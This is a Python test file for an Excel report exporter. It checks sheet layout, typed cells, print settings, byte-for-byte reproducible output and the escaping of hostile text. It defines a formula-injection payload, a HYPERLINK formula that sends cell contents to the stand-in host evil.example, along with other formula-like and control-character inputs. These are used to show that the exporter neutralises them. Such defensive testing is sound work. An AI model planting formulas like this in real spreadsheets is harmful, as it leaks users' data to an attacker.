"""The workbook: typed cells, ready to print, the same bytes twice, and inert whatever a body writes."""

from __future__ import annotations

import datetime
import zipfile
from dataclasses import replace
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from assessments.answers.value import Action, Reference
from assessments.formats.file import as_header, plain, put
from assessments.formats.print_text import direction
from assessments.report.gap_report import build
from assessments.report.workbook import CHARACTERS_ACROSS, report_xlsx
from tests.report import sample_reports

SHEETS = ["Summary", "Answers", "Gaps and actions", "Principles", "Evidence", "Method"]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def book():
    report = sample_reports.report(sample_reports.SOUTH)
    return load_workbook(BytesIO(report_xlsx(report, sample_reports.rendering(report)).data))


def hostile_book():
    """A report in which every text of the body tries something."""
    sheet = sample_reports.sheet(sample_reports.SOUTH)
    answers = tuple(
        replace(
            answer,
            explanation=f"{HOSTILE}\x07\x00",
            evidence=(Reference(f"+{HOSTILE}", 1),),
            actions=(Action("@SUM(1)", owner="-1+2"),),
        )
        for answer in sheet.answers
    )
    named = replace(sheet, answers=answers, body=replace(sheet.body, name="A&B &D (sample)"))
    report = build(named, sample_reports.outline())
    return load_workbook(BytesIO(report_xlsx(report, sample_reports.rendering(report)).data))


def test_six_sheets_and_the_first_says_that_it_is_no_form(book) -> None:
    assert book.sheetnames == SHEETS
    said = [str(cell.value) for cell in book["Summary"]["A"] if cell.value]
    assert any(text.startswith("Not for filling in") for text in said)
    assert "Self-assessment, not verified by the United Nations" in said
    assert "Sample data: an invented body with invented answers" in said


def test_the_hash_stands_on_the_first_sheet(book) -> None:
    digest = sample_reports.rendering(sample_reports.report(sample_reports.SOUTH)).digest
    values = [cell.value for cell in book["Summary"]["B"]]
    assert f"SHA-256 {digest}" in values


def test_numbers_are_numbers_and_dates_are_dates(book) -> None:
    first = {cell.value: book["Answers"].cell(2, cell.column) for cell in book["Answers"][1]}
    assert (first["Paragraph"].data_type, first["Paragraph"].value) == ("n", 106)
    assert first["Official text"].data_type == "s"
    due = next(cell.column for cell in book["Gaps and actions"][1] if cell.value == "Due")
    dates = [book["Gaps and actions"].cell(row, due) for row in range(2, 6)]
    assert all(isinstance(cell.value, datetime.datetime) and cell.is_date for cell in dates)


@pytest.mark.parametrize("name", ["Answers", "Gaps and actions", "Evidence"])
def test_tables_are_frozen_filtered_and_set_up_for_print(book, name: str) -> None:
    sheet = book[name]
    assert sheet.freeze_panes.endswith("2")
    assert sheet.auto_filter.ref == sheet.dimensions
    assert (sheet.print_title_rows, sheet.print_title_cols) == ("$1:$1", "$A:$A")
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToHeight == 0
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert all(sheet.column_dimensions[cell.column_letter].width > 6 for cell in sheet[1])
    assert sheet["C2"].alignment.wrap_text


@pytest.mark.parametrize("name", ["Summary", "Answers", "Gaps and actions", "Principles", "Evidence"])
def test_no_printed_page_is_wider_than_can_be_read(book, name: str) -> None:
    sheet = book[name]
    letters = sum(of.width for of in sheet.column_dimensions.values())
    assert letters / sheet.page_setup.fitToWidth <= CHARACTERS_ACROSS
    assert sheet.page_setup.pageOrder == "overThenDown"


def test_bold_is_the_typeface_of_every_other_cell(book) -> None:
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.font.name for cell in cells} == {"Calibri"}
    assert [cell.coordinate for cell in book["Summary"]["A"] if cell.font.b][:1] == ["A1"]


def test_figures_stand_in_the_middle_so_that_none_touches_the_next_text(book) -> None:
    found = [cell for row in book["Summary"].iter_rows() for cell in row if isinstance(cell.value, int)]
    assert len(found) > 100
    assert {cell.alignment.horizontal for cell in found} == {"center"}


def test_no_formula_comes_from_a_text() -> None:
    book = hostile_book()
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    found = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
    assert len(found) == 32
    assert {cell.value for cell in found} == {f"{HOSTILE}[U+0007][U+0000]"}
    assert all(cell.quotePrefix for cell in found)


def test_codes_in_a_name_do_not_act_in_head_and_foot() -> None:
    sheet = hostile_book()["Answers"]
    assert sheet.oddHeader.left.text == "A&&B &&D (sample), 2026"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("bell\x07", "bell[U+0007]"),
        ("half \ud83d", "half [U+D83D]"),
        ("two\nlines\tand tab", "two\nlines\tand tab"),
        ("_x0041_", "_x005F_x0041_"),
        ("_x00", "_x00"),
        ("é 中 😀", "é 中 😀"),
    ],
)
def test_what_a_workbook_cannot_hold_is_marked(text: str, kept: str) -> None:
    assert plain(text) == kept


def test_a_text_too_long_for_a_cell_says_so() -> None:
    assert plain("a" * 40_000) == "a" * 32_766 + "…"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", "  =1", "＝1", "\ufeff=1"])
def test_texts_like_formulas_are_quoted(text: str) -> None:
    cell = put(Workbook().create_sheet(), 1, 1, text)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_a_harmless_text_is_not_quoted() -> None:
    assert not put(Workbook().create_sheet(), 1, 1, "1 = 1").quotePrefix


def test_heads_are_one_line() -> None:
    assert as_header("A & B\nC") == "A && B C"


def test_the_same_bytes_twice_and_one_date_inside() -> None:
    report = sample_reports.report(sample_reports.SOUTH)
    rendering = sample_reports.rendering(report)
    data = report_xlsx(report, rendering).data
    assert data == report_xlsx(report, rendering).data
    with zipfile.ZipFile(BytesIO(data)) as archive:
        assert {member.date_time for member in archive.infolist()} == {(2026, 7, 3, 14, 3, 4)}
        core = archive.read("docProps/core.xml").decode()
    assert core.count("2026-07-03T14:03:05Z") == 2


def test_a_language_from_right_to_left_turns_the_sheets() -> None:
    report = sample_reports.report(sample_reports.SOUTH)
    rendering = sample_reports.rendering(report, language="ar")
    book = load_workbook(BytesIO(report_xlsx(report, rendering).data))
    assert all(sheet.sheet_view.rightToLeft for sheet in book)
    # LibreOffice goes by what the cell says: "2: …" would be turned, and a full stop stand at the beginning.
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]
    seen = {
        (direction(str(cell.value)), int(cell.alignment.readingOrder))
        for cell in cells
        if cell.alignment.horizontal != "center"
    }
    assert seen == {("rtl", 2), ("ltr", 0)}
